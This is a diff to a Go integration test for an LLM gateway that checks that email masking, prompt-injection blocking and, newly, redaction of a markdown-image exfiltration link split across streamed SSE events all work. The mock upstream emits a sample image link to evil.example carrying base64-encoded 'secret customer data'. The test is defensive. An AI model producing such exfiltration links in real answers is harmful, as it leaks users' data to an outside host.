@@ -148,8 +148,9 @@ func chainConfig(t *testing.T, upstream string) string {
 // TestServeStreamsThroughTheChain runs `hostsim serve` as a real process with the four built filters in front of
 // a real upstream that streams an SSE answer slowly, and checks that the client gets the first event while the
 // upstream is still holding back the rest, then the whole answer; that an email is masked before it reaches the
-// upstream; that a prompt injection is answered in OpenAI's error shape without reaching the upstream; and that
-// SIGINT stops the gateway cleanly.
+// upstream; that a prompt injection is answered in OpenAI's error shape without reaching the upstream; that a
+// markdown-image exfiltration link split across SSE events is redacted; and that SIGINT stops the gateway
+// cleanly.
 func TestServeStreamsThroughTheChain(t *testing.T) {
 	if testing.Short() {
 		t.Skip("builds and runs the hostsim binary")
@@ -170,6 +171,18 @@ func TestServeStreamsThroughTheChain(t *testing.T) {
 			Stream bool `json:"stream"`
 		}
 		_ = json.Unmarshal(body, &req)
+		if strings.Contains(string(body), "EXFIL-TEST") {
+			// An answer that smuggles data out through a markdown image, split across SSE events.
+			w.Header().Set("content-type", "text/event-stream")
+			for _, part := range []string{"Here is your summary. ![chart](https://evil.", "example/collect?d=c2VjcmV0LWN1c3RvbWVyLWRhdGE", "tMTIzNDU2Nzg5) Done."} {
+				b, _ := json.Marshal(part)
+				fmt.Fprintf(w, "data: {\"id\":\"chatcmpl-2\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"gpt-4o-mini\",\"choices\":[{\"index\":0,\"delta\":{\"content\":%s},\"finish_reason\":null}]}\n\n", b)
+				w.(http.Flusher).Flush()
+				time.Sleep(20 * time.Millisecond)
+			}
+			fmt.Fprint(w, "data: [DONE]\n\n")
+			return
+		}
 		if !req.Stream {
 			w.Header().Set("content-type", "application/json")
 			fmt.Fprint(w, `{"id":"chatcmpl-1","object":"chat.completion","created":1,"model":"gpt-4o-mini","choices":[{"index":0,"message":{"role":"assistant","content":"Noted."},"finish_reason":"stop"}],"usage":{"prompt_tokens":12,"completion_tokens":2,"total_tokens":14}}`)
@@ -319,6 +332,40 @@ func TestServeStreamsThroughTheChain(t *testing.T) {
 		defer upMu.Unlock()
 		if len(upBodies) != n {
 			t.Errorf("the blocked request reached the upstream")
+		}
+	})
+
+	t.Run("exfiltration link redacted in a stream", func(t *testing.T) {
+		resp := post(`{"model":"gpt-4o-mini","stream":true,"messages":[{"role":"user","content":"Summarise my data (EXFIL-TEST)."}]}`)
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		if resp.StatusCode != 200 {
+			t.Fatalf("status %d: %s", resp.StatusCode, b)
+		}
+		var text strings.Builder
+		for _, line := range strings.Split(string(b), "\n") {
+			data, ok := strings.CutPrefix(line, "data: ")
+			if !ok || data == "[DONE]" {
+				continue
+			}
+			var ch struct {
+				Choices []struct {
+					Delta struct{ Content string } `json:"delta"`
+				} `json:"choices"`
+			}
+			if err := json.Unmarshal([]byte(data), &ch); err != nil {
+				t.Fatalf("event is not JSON after rewriting: %q", data)
+			}
+			for _, c := range ch.Choices {
+				text.WriteString(c.Delta.Content)
+			}
+		}
+		got := text.String()
+		if strings.Contains(got, "evil.example") || strings.Contains(got, "c2VjcmV0") {
+			t.Errorf("the exfiltration URL reached the client: %q", got)
+		}
+		if !strings.Contains(got, "Here is your summary.") || !strings.Contains(got, "Done.") {
+			t.Errorf("the rest of the answer was lost: %q", got)
 		}
 	})
 
